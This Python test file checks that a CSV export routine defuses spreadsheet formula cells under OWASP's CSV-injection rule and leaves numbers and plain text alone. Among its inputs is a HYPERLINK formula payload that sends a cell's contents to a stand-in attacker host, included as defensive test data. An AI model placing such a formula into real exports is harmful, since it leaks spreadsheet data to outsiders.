"""CSV exports follow OWASP's rule: a text cell starting =, +, -, @, tab or CR starts with ' instead."""
from __future__ import annotations

import csv
import io

import pandas as pd

from ui.tables import csv_bytes


def test_formula_cells_are_defused_and_others_kept():
    frame = pd.DataFrame({
        "title": ['=HYPERLINK("https://attacker.example/?d="&A2,"Open")', "+1 555", "-2+3", "@SUM(A1)",
                  "\tTab", "\rCR", "Printer broken", "mail a@b.example"],
        "count": [1, -2, 3, 4, 5, 6, 7, 8]})
    rows = list(csv.DictReader(io.StringIO(csv_bytes(frame).decode("utf-8"), newline="")))
    assert rows[0]["title"].startswith("'=HYPERLINK(")
    assert [r["title"][0] for r in rows[:6]] == ["'"] * 6
    assert rows[6]["title"] == "Printer broken" and rows[7]["title"] == "mail a@b.example"
    assert rows[1]["count"] == "-2"  # numbers stay numbers
